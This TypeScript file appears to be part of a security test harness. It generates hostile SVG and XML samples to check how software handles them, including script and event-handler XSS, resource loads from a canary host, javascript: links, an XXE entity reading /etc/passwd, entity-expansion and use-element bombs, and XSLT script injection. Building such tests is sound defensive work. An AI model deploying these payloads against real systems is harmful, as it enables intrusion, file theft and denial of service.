import { type Attack, type AttackFacts, onlyInFull } from './attack.ts';
import { everything, inAttribute } from './payload.ts';

const XMLNS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
const svg = (what: string, body: (facts: AttackFacts) => string, before = ''): Attack => ({
  what: `SVG: ${what}`,
  file: 'attack.svg',
  content: (facts) =>
    `<?xml version="1.0"?>${before}<svg ${XMLNS} width="90" height="90">${body(facts)}</svg>`,
});

const LEVELS = ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j', 'k', 'l'];

/** Pictures that are programs, or look elsewhere. */
export const SVG_ATTACKS: readonly Attack[] = [
  svg('a script', (facts) => `<script><![CDATA[${everything(facts)}]]></script>`),
  onlyInFull(
    svg('a script of another host', ({ canary }) => `<script xlink:href="${canary.url}/script.js"/>`),
  ),
  svg(
    'event handlers',
    (facts) =>
      `<image href="x:" onerror="${inAttribute(facts)}"/><animate onbegin="${inAttribute(facts)}" attributeName="x" dur="1s"/>`,
  ),
  svg(
    'a page inside',
    (facts) =>
      `<foreignObject width="90" height="90"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${facts.canary.url}/frame"/><body xmlns="http://www.w3.org/1999/xhtml"><img src="${facts.canary.url}/img" onerror="${inAttribute(facts)}"/></body></foreignObject>`,
  ),
  svg(
    'parts of another host',
    ({ canary }) =>
      `<image href="${canary.url}/image" width="9" height="9"/><use href="${canary.url}/use#x"/><feImage href="${canary.url}/fe"/><style>@import '${canary.url}/style.css'; rect { fill: url(${canary.url}/fill#x) }</style><rect width="9" height="9" style="filter: url(${canary.url}/filter#x)"/>`,
  ),
  onlyInFull(
    svg(
      'links that are scripts',
      () =>
        `<a href="javascript:localStorage.stolen=1"><animate attributeName="href" values="javascript:localStorage.stolen=1"/><text y="20">text</text></a>`,
    ),
  ),
  onlyInFull(
    svg(
      'an entity of another host',
      () => '<text y="20">&stolen;</text>',
      '<!DOCTYPE svg [<!ENTITY stolen SYSTEM "file:///etc/passwd">]>',
    ),
  ),
  svg(
    'entities without end',
    () => '<text y="20">&j;</text>',
    `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${LEVELS.slice(1, 10)
      .map((name, i) => `<!ENTITY ${name} "${`&${LEVELS[i]};`.repeat(10)}">`)
      .join('')}]>`,
  ),
  svg(
    'parts of parts without end',
    () =>
      `<defs><rect id="a" width="1" height="1"/>${LEVELS.slice(1)
        .map((name, i) => `<g id="${name}">${`<use href="#${LEVELS[i]}"/>`.repeat(10)}</g>`)
        .join('')}</defs><use href="#l"/>`,
  ),
  svg(
    'filters as large as the world',
    () =>
      `<filter id="f" x="-1000000" y="-1000000" width="9000000" height="9000000"><feTurbulence baseFrequency="0.9" numOctaves="9999"/><feMorphology radius="9999"/><feGaussianBlur stdDeviation="9999"/></filter><rect width="90" height="90" filter="url(#f)"/>`,
  ),
  {
    what: 'SVG: larger than any screen',
    isLong: true,
    file: 'attack.svg',
    content: () =>
      `<svg ${XMLNS} width="99999999" height="99999999"><rect width="99999999" height="99999999"/></svg>`,
  },
  {
    what: 'XML that a style sheet makes a page of',
    file: 'attack.xml',
    content: (facts) =>
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#x"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]><d><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><script>${everything(facts).replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script></html></xsl:template></xsl:stylesheet></d>`,
  },
  {
    what: 'SVG: packed',
    isLong: true,
    file: 'attack.svgz',
    content: (facts) =>
      `<svg ${XMLNS}><script>${everything(facts).replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</script></svg>`,
  },
];
